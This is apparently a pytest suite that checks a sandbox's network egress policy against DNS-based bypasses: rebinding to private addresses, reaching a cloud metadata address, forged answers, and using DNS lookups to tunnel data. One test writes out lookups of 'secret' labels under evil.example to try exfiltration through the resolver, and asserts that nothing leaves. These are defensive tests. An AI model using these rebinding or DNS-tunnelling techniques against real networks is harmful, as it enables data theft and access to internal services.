"""A sandbox whose policy allows names, with the help of who answers for the names (I4): a row of the table is a test."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from framework.bypass_lab import Attack, BypassLab
from framework.bypasses_by_answer import ANSWER_ATTACKS
from framework.inside import address_of
from framework.pretend_internet import HOST_ADDRESS, PRIVATE_ADDRESS, SHARED_HOST, PretendInternet
from framework.server import Server

pytestmark = [pytest.mark.root, pytest.mark.templates]


@pytest.fixture(scope="module")
def lab(online_server: Server, internet: PretendInternet) -> Iterator[BypassLab]:
    """A sandbox that attacks, a neighbour, and names of addresses that no sandbox may reach."""
    made = BypassLab(online_server, internet)
    neighbour = made.make({})
    made.addresses["NEIGHBOUR"] = address_of(neighbour)
    named = {"private": PRIVATE_ADDRESS, "host": HOST_ADDRESS, "metadata": "169.254.169.254", "loopback": "127.0.0.1"}
    named |= {"neighbour": made.addresses["NEIGHBOUR"], "gateway": made.addresses["GATEWAY"]}
    for name, address in named.items():
        internet.answer(f"{name}.wild.example", address)
    internet.answer("forged.wild.example", SHARED_HOST, fault="question")
    internet.answer("wrong.wild.example", SHARED_HOST, fault="id")
    internet.answer("ech.wild.example", SHARED_HOST, ech=True)
    yield made
    for sandbox in (made.sandbox, neighbour):
        sandbox.kill()


@pytest.mark.parametrize("attack", ANSWER_ATTACKS, ids=lambda attack: attack.name)
def test_sandbox_cannot_be_led_by(lab: BypassLab, attack: Attack) -> None:
    """No request and no packet arrives where the policy does not let it."""
    lab.fail(attack)


def test_a_name_that_is_rebound_is_followed_to_no_private_address(lab: BypassLab) -> None:
    """A name answers with a public address while it is judged, and with a private one later."""
    lab.follow({"allow_out": ["*.wild.example"], "deny_out": ["0.0.0.0/0"]})
    lab.internet.answer("rebound.wild.example", SHARED_HOST, PRIVATE_ADDRESS, ttl=0)
    before = lab.internet.packets(destination=PRIVATE_ADDRESS)
    answers = [lab.run(f"tcp('{SHARED_HOST}', 80, get('rebound.wild.example', '/'))") for _ in range(3)]
    assert lab.internet.packets(destination=PRIVATE_ADDRESS) == before, answers
    assert any(answer.startswith("HTTP/1.1 200") for answer in answers), answers


def test_a_look_up_of_a_strange_name_carries_nothing_out(lab: BypassLab) -> None:
    """No label of a name that the policy does not allow comes to any resolver outside: so names are no tunnel."""
    lab.follow({"allow_out": ["api.example.net"], "deny_out": ["0.0.0.0/0"]})
    lab.run("[dns(resolver(), f'secret{n}.{domain}') for n in range(3) for domain in ('evil.example', 'api.example.net')]")
    lab.run(f"dns('{lab.addresses['RESOLVER']}', 'secret3.evil.example')")
    assert not [name for name, _ in (*lab.internet.questions(), *lab.hosts.questions()) if name.startswith("secret")]
    assert lab.run("dns(resolver(), 'api.example.net')").startswith("answered")
